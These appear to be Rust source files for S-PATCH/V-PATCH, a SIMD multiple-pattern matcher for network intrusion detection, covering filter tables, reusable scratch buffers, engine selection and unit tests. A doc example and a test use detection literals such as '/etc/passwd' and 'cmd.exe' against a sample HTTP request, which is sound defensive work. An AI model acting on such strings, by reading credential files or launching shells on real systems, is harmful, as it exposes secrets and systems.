    pub fn build(set: &PatternSet) -> Self {
        Self::build_with_filter3_bits(set, HashedFilter::DEFAULT_BITS)
    }

    /// Compiles with an explicit filter-3 size (2^bits bits). Exposed for the
    /// filter-size ablation benchmark: the paper notes the trade-off between
    /// a large filter (fewer collisions ⇒ better filtering rate) and a small
    /// one (fits higher in the cache hierarchy).
    pub fn build_with_filter3_bits(set: &PatternSet, filter3_bits: u32) -> Self {
        Self::build_inner(set, filter3_bits, None)
    }

    /// Compiles tables for one **port group** against a shared
    /// [`PatternArena`]: verification tables reference pattern bytes by
    /// offset into the arena ([`Verifier::build_with_arena`]) and the
    /// hashed third filter is sized to the group's long-pattern count
    /// ([`SPatchTables::filter3_bits_for`]) instead of the monolithic 16 KB
    /// default — a 40-rule group gets a 128-byte filter 3, which is what
    /// keeps N groups' fixed overhead from multiplying into megabytes.
    /// Match semantics are identical to [`SPatchTables::build`].
    ///
    /// Every pattern of `set` must already be interned in `arena`.
    pub fn build_with_arena(set: &PatternSet, arena: &PatternArena) -> Self {
        let long_count = set.patterns().iter().filter(|p| p.len() >= 4).count();
        Self::build_inner(set, Self::filter3_bits_for(long_count), Some(arena))
    }

    /// Filter-3 sizing for per-group tables: about 8 bits per long pattern
    /// (`ceil_log2(n) + 3`), clamped to `[HashedFilter::MIN_BITS_LOG2 = 10,
    /// DEFAULT_BITS = 17]` — small groups stay selective at a few hundred
    /// bytes, and a group as large as the monolithic set gets the paper's
    /// default size back.
    pub fn filter3_bits_for(long_patterns: usize) -> u32 {
        let n = long_patterns.max(1);
        let ceil_log2 = usize::BITS - n.next_power_of_two().leading_zeros() - 1;
        (ceil_log2 + 3).clamp(10, HashedFilter::DEFAULT_BITS)
    }

    fn build_inner(set: &PatternSet, filter3_bits: u32, arena: Option<&PatternArena>) -> Self {
        let is_short = |p: &mpm_patterns::Pattern| p.len() < 4;
        let is_long = |p: &mpm_patterns::Pattern| p.len() >= 4;
        // Case-folded tables if (and only if) the set contains a `nocase`
        // pattern: folding the filters over every pattern lets one filter
        // pass serve mixed sets, while a case-sensitive-only set compiles to
        // exactly the byte-exact structures it always had.
        let folded = set.has_nocase();
        // Per-group (arena-backed) tables size the direct filters to the
        // group's window population, just as filter 3 is sized to its
        // long-pattern count: a 40-rule port group gets a pair of ~1 KB
        // bitmaps instead of two full 8 KB ones. Both filters share one size
        // because the merged interleaved table requires it (and the engines
        // mask windows once per block). The monolithic path keeps the paper's
        // full 2^16 windows.
        let direct_bits = if arena.is_some() {
            direct_filter_bits_for(direct_filter_window_count(set, is_short)).max(
                direct_filter_bits_for(direct_filter_window_count(set, is_long)),
            )
        } else {
            DIRECT_FILTER_FULL_BITS
        };
        let filter1 = DirectFilter::build_sized_with_fold(set, direct_bits, folded, is_short);
        let filter2 = DirectFilter::build_sized_with_fold(set, direct_bits, folded, is_long);
        let filter3 = HashedFilter::build_with_fold(set, filter3_bits, folded, is_long);
        let merged = MergedDirectFilters::merge(&filter1, &filter2);
        let verifier = match arena {
            Some(arena) => Verifier::build_with_arena(set, arena),
            None => Verifier::build(set),
        };
        let has_short = set.patterns().iter().any(is_short);
        let has_long = set.patterns().iter().any(is_long);
        let max_pattern_len = set.patterns().iter().map(|p| p.len()).max().unwrap_or(0);
        SPatchTables {
            filter1,
            filter2,
            filter3,
            merged,
            verifier,
            has_short,
            has_long,
            folded,
            pattern_count: set.len(),
            max_pattern_len,
        }
    }

    /// True if the tables were built over ASCII-case-folded bytes (the set
    /// contains a `nocase` pattern); the engines fold input windows to match.
    pub fn is_folded(&self) -> bool {
        self.folded
    }

    /// Number of patterns the tables were built from.
    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }

    /// Length of the longest pattern the tables were built from (`0` for an
    /// empty set). Chunked/streaming callers must overlap consecutive chunks
    /// by `max_pattern_len - 1` bytes to keep boundary matches.
    pub fn max_pattern_len(&self) -> usize {
        self.max_pattern_len
    }

    /// Resident size of the filtering-round structures (must stay cache
    /// resident for the design to work; the paper sizes them for L1/L2).
    pub fn filter_bytes(&self) -> usize {
        // The scalar engine touches filter1 + filter2 + filter3; the vector
        // engine touches merged + filter3. Report the larger working set.
        (self.filter1.heap_bytes() + self.filter2.heap_bytes()).max(self.merged.heap_bytes())
            + self.filter3.heap_bytes()
    }

    /// Resident size of the verification hash tables.
    pub fn table_bytes(&self) -> usize {
        self.verifier.heap_bytes()
    }

    /// The verification tables (exposed for the cache-simulation
    /// experiments).
    pub fn verifier(&self) -> &Verifier {
        &self.verifier
    }

    /// Filter 1 (short patterns), for inspection and cache replay.
    pub fn filter1(&self) -> &DirectFilter {
        &self.filter1
    }

    /// Filter 2 (long patterns), for inspection and cache replay.
    pub fn filter2(&self) -> &DirectFilter {
        &self.filter2
    }

    /// Filter 3 (hashed, long patterns), for inspection and cache replay.
    pub fn filter3(&self) -> &HashedFilter {
        &self.filter3
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::PatternSet;

    #[test]
    fn short_long_split_follows_the_four_byte_boundary() {
        let set = PatternSet::from_literals(&["abc", "abcd"]);
        let t = SPatchTables::build(&set);
        assert!(t.has_short);
        assert!(t.has_long);
        // "abc" is short: its prefix lives in filter 1 only.
        assert!(t.filter1.contains(u16::from_le_bytes([b'a', b'b'])));
        // "abcd" is long: prefix in filter 2 and its 4-byte head in filter 3.
        assert!(t.filter2.contains(u16::from_le_bytes([b'a', b'b'])));
        assert!(t.filter3.contains(u32::from_le_bytes(*b"abcd")));
    }

    #[test]
    fn filters_fit_in_cache_even_for_large_rulesets() {
        let lits: Vec<String> = (0..20_000)
            .map(|i| format!("pattern-{i:06}-payload"))
            .collect();
        let set = PatternSet::from_literals(&lits);
        let t = SPatchTables::build(&set);
        // 8 KB + 8 KB direct (or 16 KB merged) + 16 KB hashed ≈ 32 KB:
        // the whole filtering working set fits in L1d/L2 as the paper requires.
        assert!(t.filter_bytes() <= 48 * 1024, "got {}", t.filter_bytes());
        assert!(t.table_bytes() > 256 * 1024);
        assert_eq!(t.pattern_count(), 20_000);
    }

    #[test]
    fn only_short_or_only_long_sets() {
        let short_only = SPatchTables::build(&PatternSet::from_literals(&["ab", "c"]));
        assert!(short_only.has_short && !short_only.has_long);
        let long_only = SPatchTables::build(&PatternSet::from_literals(&["abcd", "efghij"]));
        assert!(!long_only.has_short && long_only.has_long);
    }

    #[test]
    fn nocase_sets_build_folded_tables_and_exact_sets_do_not() {
        use mpm_patterns::Pattern;
        let exact = SPatchTables::build(&PatternSet::from_literals(&["GeT", "AbCd"]));
        assert!(!exact.is_folded());
        // Exact tables index on the original bytes.
        assert!(exact.filter1.contains(u16::from_le_bytes([b'G', b'e'])));
        assert!(!exact.filter1.contains(u16::from_le_bytes([b'g', b'e'])));

        let mixed = SPatchTables::build(&PatternSet::new(vec![
            Pattern::literal_nocase(*b"GeT"),
            Pattern::literal(*b"AbCd"),
        ]));
        assert!(mixed.is_folded());
        // Folded tables index every pattern — nocase or not — on the folded
        // bytes; the engines fold the input windows to match.
        assert!(mixed.filter1.contains(u16::from_le_bytes([b'g', b'e'])));
        assert!(mixed.filter2.contains(u16::from_le_bytes([b'a', b'b'])));
        assert!(mixed.filter3.contains(u32::from_le_bytes(*b"abcd")));
    }

    #[test]
    fn arena_tables_shrink_the_direct_filters_for_small_groups() {
        use mpm_patterns::ArenaBuilder;
        let lits: Vec<String> = (0..40).map(|i| format!("group-rule-{i:02}")).collect();
        let set = PatternSet::from_literals(&lits);
        let mut b = ArenaBuilder::new();
        for p in set.patterns() {
            b.intern(p.bytes());
        }
        let arena = b.finish();
        let grouped = SPatchTables::build_with_arena(&set, &arena);
        let monolithic = SPatchTables::build(&set);
        // 40 windows ⇒ 10-bit direct filters (128 B payloads) instead of the
        // monolithic 2^16 (8 KB each); the filter working set shrinks by an
        // order of magnitude while the lookups stay a superset-exact mask.
        assert_eq!(grouped.filter1.bits_log2(), 10);
        assert_eq!(grouped.filter2.bits_log2(), 10);
        assert_eq!(grouped.merged.bits_log2(), 10);
        assert!(
            grouped.filter_bytes() * 8 < monolithic.filter_bytes(),
            "grouped {} vs monolithic {}",
            grouped.filter_bytes(),
            monolithic.filter_bytes()
        );

        // A big group saturates back to the full-size filters.
        let many: Vec<String> = (0..20_000).map(|i| format!("pat-{i:05}-xyz")).collect();
        let big_set = PatternSet::from_literals(&many);
        let mut bb = ArenaBuilder::new();
        for p in big_set.patterns() {
            bb.intern(p.bytes());
        }
        let big = SPatchTables::build_with_arena(&big_set, &bb.finish());
        assert_eq!(big.filter2.bits_log2(), DIRECT_FILTER_FULL_BITS);
    }

    #[test]
    fn filter3_size_is_configurable() {
        let set = PatternSet::from_literals(&["abcdef"]);
        let small = SPatchTables::build_with_filter3_bits(&set, 12);
        let large = SPatchTables::build_with_filter3_bits(&set, 20);
        assert!(small.filter3().heap_bytes() < large.filter3().heap_bytes());
    }
}
