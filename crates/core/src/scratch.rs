//! Reusable per-scan scratch state: the temporary candidate arrays of
//! Algorithm 1 / Algorithm 2 plus the instrumentation counters.
//!
//! The engines never allocate inside the filtering loop; all growth happens
//! in these vectors, which callers can reuse across chunks of a stream
//! (`Scratch::clear` keeps the capacity). The counters feed Figure 5b
//! (filtering-time ratio, useful-lane occupancy) and the EXPERIMENTS.md
//! analysis.
//!
//! Two lifecycle methods serve the two reuse patterns:
//!
//! * [`Scratch::clear`] — full reset (candidates **and** counters), the
//!   start-of-measurement entry point;
//! * [`Scratch::begin_chunk`] — clears only the candidate arrays, keeping
//!   the phase counters accumulating. `scan_with_scratch` uses this, so a
//!   streaming caller that feeds many chunks through one scratch reads
//!   whole-stream totals (`filter_nanos`, `verify_nanos`, lane occupancy)
//!   at the end instead of the last chunk's values.
//!
//! Capacity hints are **engine-aware**: the compiled tables know whether a
//! ruleset contains short and/or long patterns, and an array that can never
//! receive a candidate is not pre-reserved (see [`Scratch::with_hints`]).

use std::cell::RefCell;

/// Temporary arrays and counters for one scan.
#[derive(Clone, Debug, Default)]
pub struct Scratch {
    /// Candidate positions for short patterns (`A_short` in the paper).
    pub a_short: Vec<u32>,
    /// Candidate positions for long patterns (`A_long` in the paper).
    pub a_long: Vec<u32>,
    /// Number of vector blocks in which the third filter was evaluated.
    pub filter3_blocks: u64,
    /// Total lanes that were genuinely active (had passed filter 2) over all
    /// third-filter evaluations.
    pub useful_lanes: u64,
    /// Nanoseconds spent in filtering rounds since the last [`Scratch::clear`]
    /// (accumulates across `scan_with_scratch` calls for streaming use).
    pub filter_nanos: u64,
    /// Nanoseconds spent in verification rounds since the last
    /// [`Scratch::clear`].
    pub verify_nanos: u64,
}

/// Fraction of input positions the capacity hints assume can become
/// candidates (a few percent is typical on realistic traffic).
const CANDIDATE_FRACTION_DIV: usize = 32;

impl Scratch {
    /// Creates an empty scratch.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates a scratch with capacity hints derived from the input length,
    /// assuming both candidate classes can occur. Prefer
    /// [`Scratch::with_hints`] when the engine's tables are at hand.
    pub fn with_capacity_for(input_len: usize) -> Self {
        Self::with_hints(input_len, true, true)
    }

    /// Creates a scratch with engine-aware capacity hints: only the
    /// candidate arrays the ruleset can actually populate are pre-reserved
    /// (`expect_short` ⇔ the ruleset has 1–3-byte patterns, `expect_long` ⇔
    /// it has ≥ 4-byte ones). A short-only ruleset therefore allocates
    /// nothing for `a_long`, and vice versa.
    pub fn with_hints(input_len: usize, expect_short: bool, expect_long: bool) -> Self {
        let mut scratch = Scratch::default();
        scratch.reserve_for(input_len, expect_short, expect_long);
        scratch
    }

    /// Grows the candidate arrays to the capacity [`Scratch::with_hints`]
    /// would pick for `input_len`, without shrinking or discarding anything.
    /// Cheap when the scratch is already warm — the common case for a cached
    /// or streaming scratch.
    pub fn reserve_for(&mut self, input_len: usize, expect_short: bool, expect_long: bool) {
        let hint = input_len / CANDIDATE_FRACTION_DIV + 16;
        if expect_short && self.a_short.capacity() < hint {
            self.a_short.reserve(hint - self.a_short.len());
        }
        if expect_long && self.a_long.capacity() < hint {
            self.a_long.reserve(hint - self.a_long.len());
        }
    }

    /// Clears candidates and counters but keeps allocated capacity.
    pub fn clear(&mut self) {
        self.begin_chunk();
        self.filter3_blocks = 0;
        self.useful_lanes = 0;
        self.filter_nanos = 0;
        self.verify_nanos = 0;
    }

    /// Clears the candidate arrays for the next chunk of a stream while the
    /// phase counters keep accumulating. Capacity is kept.
    pub fn begin_chunk(&mut self) {
        self.a_short.clear();
        self.a_long.clear();
    }

    /// Total candidate positions recorded by the filtering round.
    pub fn candidates(&self) -> u64 {
        (self.a_short.len() + self.a_long.len()) as u64
    }
}

thread_local! {
    /// Per-thread scratch reused by the engines' `find_into` /
    /// `scan_with_stats` entry points, so repeated one-shot scans stop
    /// paying an allocation per call.
    static CACHED_SCRATCH: RefCell<Scratch> = RefCell::new(Scratch::new());
}

/// Upper bound on the candidate capacity the thread-local scratch keeps
/// between calls (entries per array; 1 MiB of `u32`s each). One scan of a
/// huge buffer must not pin hundreds of megabytes of idle heap on the
/// thread for the process lifetime — anything above this is released when
/// the cached scratch is handed back.
const MAX_CACHED_CAPACITY: usize = 1 << 18;

/// Runs `f` with this thread's cached [`Scratch`] (allocating a transient
/// one only in the re-entrant case, which the engines never hit themselves).
/// The scratch is handed over un-cleared; callers reset whatever state they
/// rely on. On return the candidate arrays are emptied and capacity beyond
/// `MAX_CACHED_CAPACITY` entries per array is given back to the allocator,
/// so the cache's idle footprint stays bounded regardless of the largest
/// input ever scanned on the thread.
pub fn with_cached_scratch<R>(f: impl FnOnce(&mut Scratch) -> R) -> R {
    CACHED_SCRATCH.with(|cell| match cell.try_borrow_mut() {
        Ok(mut scratch) => {
            let result = f(&mut scratch);
            scratch.begin_chunk();
            if scratch.a_short.capacity() > MAX_CACHED_CAPACITY {
                scratch.a_short.shrink_to(MAX_CACHED_CAPACITY);
            }
            if scratch.a_long.capacity() > MAX_CACHED_CAPACITY {
                scratch.a_long.shrink_to(MAX_CACHED_CAPACITY);
            }
            result
        }
        Err(_) => f(&mut Scratch::new()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clear_keeps_capacity() {
        let mut s = Scratch::with_capacity_for(64 * 1024);
        let cap_short = s.a_short.capacity();
        s.a_short.extend_from_slice(&[1, 2, 3]);
        s.a_long.push(9);
        s.filter3_blocks = 5;
        s.clear();
        assert_eq!(s.candidates(), 0);
        assert_eq!(s.filter3_blocks, 0);
        assert!(s.a_short.capacity() >= cap_short);
    }

    #[test]
    fn candidates_counts_both_arrays() {
        let mut s = Scratch::new();
        s.a_short.extend_from_slice(&[1, 2]);
        s.a_long.extend_from_slice(&[3, 4, 5]);
        assert_eq!(s.candidates(), 5);
    }

    #[test]
    fn hints_skip_impossible_candidate_classes() {
        let short_only = Scratch::with_hints(1 << 20, true, false);
        assert!(short_only.a_short.capacity() > 0);
        assert_eq!(short_only.a_long.capacity(), 0);
        let long_only = Scratch::with_hints(1 << 20, false, true);
        assert_eq!(long_only.a_short.capacity(), 0);
        assert!(long_only.a_long.capacity() > 0);
    }

    #[test]
    fn reserve_for_grows_without_discarding() {
        let mut s = Scratch::new();
        s.a_short.push(42);
        s.reserve_for(1 << 16, true, true);
        assert_eq!(s.a_short, vec![42]);
        assert!(s.a_short.capacity() >= (1 << 16) / 32);
        let cap = s.a_short.capacity();
        // Re-reserving for a smaller input never shrinks.
        s.reserve_for(64, true, true);
        assert_eq!(s.a_short.capacity(), cap);
    }

    #[test]
    fn begin_chunk_keeps_counters_accumulating() {
        let mut s = Scratch::new();
        s.a_short.push(1);
        s.filter_nanos = 10;
        s.useful_lanes = 3;
        s.begin_chunk();
        assert_eq!(s.candidates(), 0);
        assert_eq!(s.filter_nanos, 10);
        assert_eq!(s.useful_lanes, 3);
    }

    #[test]
    fn cached_scratch_footprint_is_bounded() {
        // A scan-sized reservation far above the cache limit...
        with_cached_scratch(|s| {
            s.clear();
            s.reserve_for(MAX_CACHED_CAPACITY * 64 * 32, true, true);
            assert!(s.a_short.capacity() > MAX_CACHED_CAPACITY);
            s.a_short.push(1);
        });
        // ...is trimmed back (and emptied) once the cache is released.
        with_cached_scratch(|s| {
            assert!(s.a_short.capacity() <= MAX_CACHED_CAPACITY);
            assert!(s.a_long.capacity() <= MAX_CACHED_CAPACITY);
            assert!(s.a_short.is_empty());
        });
    }

    #[test]
    fn cached_scratch_is_reused_and_reentrancy_safe() {
        let cap = with_cached_scratch(|s| {
            s.clear();
            s.reserve_for(1 << 16, true, true);
            s.a_short.capacity()
        });
        let (cap_again, nested_ok) = with_cached_scratch(|s| {
            let outer_cap = s.a_short.capacity();
            // A nested borrow must not panic; it falls back to a transient.
            let nested = with_cached_scratch(|inner| inner.a_short.capacity() <= outer_cap);
            (outer_cap, nested)
        });
        assert_eq!(cap, cap_again, "capacity persisted across calls");
        assert!(nested_ok);
    }
}
