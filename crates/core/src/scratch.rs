//! Reusable per-scan scratch state: the temporary candidate arrays of
//! Algorithm 1 / Algorithm 2 plus the instrumentation counters.
//!
//! The engines never allocate inside the filtering loop; all growth happens
//! in these vectors, which callers can reuse across chunks of a stream
//! (`Scratch::clear` keeps the capacity). The counters feed Figure 5b
//! (filtering-time ratio, useful-lane occupancy) and the EXPERIMENTS.md
//! analysis.

/// Temporary arrays and counters for one scan.
#[derive(Clone, Debug, Default)]
pub struct Scratch {
    /// Candidate positions for short patterns (`A_short` in the paper).
    pub a_short: Vec<u32>,
    /// Candidate positions for long patterns (`A_long` in the paper).
    pub a_long: Vec<u32>,
    /// Number of vector blocks in which the third filter was evaluated.
    pub filter3_blocks: u64,
    /// Total lanes that were genuinely active (had passed filter 2) over all
    /// third-filter evaluations.
    pub useful_lanes: u64,
    /// Nanoseconds spent in the filtering round of the last scan.
    pub filter_nanos: u64,
    /// Nanoseconds spent in the verification round of the last scan.
    pub verify_nanos: u64,
}

impl Scratch {
    /// Creates an empty scratch.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates a scratch with capacity hints derived from the input length
    /// (a few percent of positions typically become candidates on realistic
    /// traffic).
    pub fn with_capacity_for(input_len: usize) -> Self {
        Scratch {
            a_short: Vec::with_capacity(input_len / 32 + 16),
            a_long: Vec::with_capacity(input_len / 32 + 16),
            ..Scratch::default()
        }
    }

    /// Clears candidates and counters but keeps allocated capacity.
    pub fn clear(&mut self) {
        self.a_short.clear();
        self.a_long.clear();
        self.filter3_blocks = 0;
        self.useful_lanes = 0;
        self.filter_nanos = 0;
        self.verify_nanos = 0;
    }

    /// Total candidate positions recorded by the filtering round.
    pub fn candidates(&self) -> u64 {
        (self.a_short.len() + self.a_long.len()) as u64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clear_keeps_capacity() {
        let mut s = Scratch::with_capacity_for(64 * 1024);
        let cap_short = s.a_short.capacity();
        s.a_short.extend_from_slice(&[1, 2, 3]);
        s.a_long.push(9);
        s.filter3_blocks = 5;
        s.clear();
        assert_eq!(s.candidates(), 0);
        assert_eq!(s.filter3_blocks, 0);
        assert!(s.a_short.capacity() >= cap_short);
    }

    #[test]
    fn candidates_counts_both_arrays() {
        let mut s = Scratch::new();
        s.a_short.extend_from_slice(&[1, 2]);
        s.a_long.extend_from_slice(&[3, 4, 5]);
        assert_eq!(s.candidates(), 5);
    }
}
