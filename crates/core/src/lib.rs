//! **S-PATCH and V-PATCH** — the paper's contribution: cache-local,
//! vectorization-friendly multiple pattern matching for network security
//! applications.
//!
//! # The algorithms
//!
//! **S-PATCH** (§IV-A of the paper, [`SPatch`]) restructures DFC around two
//! strictly separated rounds:
//!
//! 1. a **filtering round** sweeps the whole input through three small,
//!    cache-resident filters —
//!    * *filter 1*: 2-byte direct bitmap of the **short** patterns
//!      (1–3 bytes), which are few but fire often in real traffic;
//!    * *filter 2*: 2-byte direct bitmap of the **long** patterns (≥ 4 bytes);
//!    * *filter 3*: a hashed bitmap over the **first four bytes** of the long
//!      patterns, consulted only when filter 2 hits, to weed out 2-byte
//!      coincidences (e.g. `attribute` vs `attack`) before paying for
//!      verification —
//!
//!    and records candidate positions in two temporary arrays
//!    (`A_short`, `A_long`);
//! 2. a **verification round** replays those arrays against DFC-style
//!    compact hash tables and reports exactly the true matches.
//!
//! **V-PATCH** (§IV-B, [`VPatch`]) vectorizes the filtering round: `W`
//! sliding windows are built with shuffles, both 2-byte filters are fetched
//! with a *single* gather thanks to the merged-filter layout, the third
//! filter is evaluated speculatively for all lanes and masked, and candidate
//! positions are extracted from the lane masks. Verification stays scalar
//! and runs afterwards, so no scalar/vector mixing happens inside the hot
//! loop. The main loop is unrolled two vectors deep, as in the paper.
//!
//! # Choosing an engine
//!
//! ```
//! use mpm_patterns::{Matcher, PatternSet};
//!
//! let rules = PatternSet::from_literals(&["/etc/passwd", "cmd.exe", "GET"]);
//! // Widest SIMD engine the CPU supports (falls back to scalar S-PATCH).
//! let engine = mpm_vpatch::build_auto(&rules);
//! let matches = engine.find_all(b"GET /etc/passwd HTTP/1.1");
//! assert_eq!(matches.len(), 2);
//! ```
//!
//! All engines implement [`mpm_patterns::Matcher`] and report exactly the
//! match set Aho-Corasick reports (the paper's correctness criterion);
//! this is enforced by unit, integration and property tests.

#![warn(missing_docs)]

pub(crate) mod graph_ops;
pub mod scratch;
pub mod spatch;
pub mod tables;
pub mod vpatch;

pub use scratch::Scratch;
pub use spatch::SPatch;
pub use tables::SPatchTables;
pub use vpatch::{FilterOnlyMode, VPatch};

use mpm_patterns::{Matcher, PatternSet};
use mpm_simd::{Avx2Backend, Avx512Backend, BackendKind, ScalarBackend};

/// V-PATCH at the AVX2 width (8 lanes) — the paper's Haswell configuration.
pub type VPatchAvx2 = VPatch<Avx2Backend, 8>;
/// V-PATCH at the AVX-512 width (16 lanes) — the paper's Xeon-Phi width.
pub type VPatchAvx512 = VPatch<Avx512Backend, 16>;
/// V-PATCH compiled against the portable scalar backend at 8 lanes
/// (functionally identical, no SIMD hardware needed).
pub type VPatchScalar8 = VPatch<ScalarBackend, 8>;
/// V-PATCH compiled against the portable scalar backend at 16 lanes.
pub type VPatchScalar16 = VPatch<ScalarBackend, 16>;

/// Builds the fastest engine available on this CPU:
/// AVX-512 V-PATCH ≻ AVX2 V-PATCH ≻ scalar S-PATCH.
///
/// `MPM_FORCE_BACKEND` pins the choice (see [`mpm_simd::forced_backend`]):
/// under `MPM_FORCE_BACKEND=scalar` this returns S-PATCH even on AVX-512
/// hardware, which is how CI deterministically exercises every code path.
pub fn build_auto(set: &PatternSet) -> Box<dyn Matcher + Send + Sync> {
    build_for(set, mpm_simd::detect_best()).expect("detect_best returns an available backend")
}

/// [`build_auto`] for one port group compiled against a shared
/// [`mpm_patterns::PatternArena`]: the engine's verification tables
/// reference the arena by offset and its hashed filter is sized to the
/// group ([`SPatchTables::build_with_arena`]). The returned engine's
/// `memory_footprint` therefore excludes the arena bytes, which the owner
/// of the group collection counts exactly once. Every pattern of `set`
/// must already be interned in `arena`.
pub fn build_auto_with_arena(
    set: &PatternSet,
    arena: &mpm_patterns::PatternArena,
) -> Box<dyn Matcher + Send + Sync> {
    let tables = SPatchTables::build_with_arena(set, arena);
    match mpm_simd::detect_best() {
        BackendKind::Avx512 if BackendKind::Avx512.is_available() => {
            Box::new(VPatchAvx512::from_tables(tables))
        }
        BackendKind::Avx2 if BackendKind::Avx2.is_available() => {
            Box::new(VPatchAvx2::from_tables(tables))
        }
        _ => Box::new(SPatch::from_tables(tables)),
    }
}

/// Builds the paper's engine for an explicit backend choice: V-PATCH at the
/// backend's width for the SIMD backends, scalar S-PATCH for
/// [`BackendKind::Scalar`]. Returns `None` if the backend is unavailable on
/// this CPU. (Use [`build_vpatch_for`] to get V-PATCH compiled against the
/// portable scalar backend instead of S-PATCH.)
pub fn build_for(set: &PatternSet, backend: BackendKind) -> Option<Box<dyn Matcher + Send + Sync>> {
    match backend {
        BackendKind::Avx512 if BackendKind::Avx512.is_available() => {
            Some(Box::new(VPatchAvx512::build(set)))
        }
        BackendKind::Avx2 if BackendKind::Avx2.is_available() => {
            Some(Box::new(VPatchAvx2::build(set)))
        }
        BackendKind::Scalar => Some(Box::new(SPatch::build(set))),
        _ => None,
    }
}

/// Builds the V-PATCH variant for an explicit backend choice (useful for the
/// benchmark harness, which measures every variant regardless of what
/// `detect_best` would pick). Returns `None` if the backend is unavailable
/// on this CPU.
pub fn build_vpatch_for(
    set: &PatternSet,
    backend: BackendKind,
) -> Option<Box<dyn Matcher + Send + Sync>> {
    match backend {
        BackendKind::Avx512 if BackendKind::Avx512.is_available() => {
            Some(Box::new(VPatchAvx512::build(set)))
        }
        BackendKind::Avx2 if BackendKind::Avx2.is_available() => {
            Some(Box::new(VPatchAvx2::build(set)))
        }
        BackendKind::Scalar => Some(Box::new(VPatchScalar8::build(set))),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::naive::naive_find_all;

    #[test]
    fn auto_engine_is_exact() {
        let set = PatternSet::from_literals(&["GET", "/etc/passwd", "x"]);
        let engine = build_auto(&set);
        let hay = b"GET /etc/passwd x GET";
        assert_eq!(engine.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn explicit_backend_construction() {
        let set = PatternSet::from_literals(&["abcd", "zz"]);
        let scalar = build_vpatch_for(&set, BackendKind::Scalar).unwrap();
        assert_eq!(scalar.find_all(b"zzabcd").len(), 2);
        for kind in mpm_simd::available_backends() {
            assert!(build_vpatch_for(&set, kind).is_some());
            let engine = build_for(&set, kind).unwrap();
            assert_eq!(engine.find_all(b"zzabcd").len(), 2);
            assert_eq!(engine.max_pattern_len(), 4);
        }
        // build_for hands out S-PATCH on the scalar path, V-PATCH otherwise.
        assert_eq!(
            build_for(&set, BackendKind::Scalar).unwrap().name(),
            "S-PATCH"
        );
    }

    #[test]
    fn arena_engine_is_exact_smaller_and_honestly_accounted() {
        use mpm_patterns::{assert_footprint_consistent, ArenaBuilder};
        let lits: Vec<String> = (0..500).map(|i| format!("needle-{i:04}-tail")).collect();
        let set = PatternSet::from_literals(&lits);
        let mut builder = ArenaBuilder::new();
        for p in set.patterns() {
            builder.intern(p.bytes());
        }
        let arena = builder.finish();
        let plain = build_auto(&set);
        let grouped = build_auto_with_arena(&set, &arena);
        let hay = b"xx needle-0000-tail .. needle-0499-tail yy needle-0250-tai";
        assert_eq!(grouped.find_all(hay), plain.find_all(hay));
        assert_eq!(grouped.find_all(hay), naive_find_all(&set, hay));
        // The shared build drops the pattern bytes (charged to the arena
        // owner) and shrinks filter 3 + the long table to the set size.
        assert!(grouped.heap_bytes() + arena.len() < plain.heap_bytes());
        assert_footprint_consistent(plain.as_ref());
        assert_footprint_consistent(grouped.as_ref());
    }

    #[test]
    fn filter3_sizing_tracks_group_size() {
        use tables::SPatchTables;
        assert_eq!(SPatchTables::filter3_bits_for(0), 10);
        assert_eq!(SPatchTables::filter3_bits_for(40), 10);
        assert_eq!(SPatchTables::filter3_bits_for(600), 13);
        assert_eq!(SPatchTables::filter3_bits_for(1 << 16), 17, "clamped");
    }
}
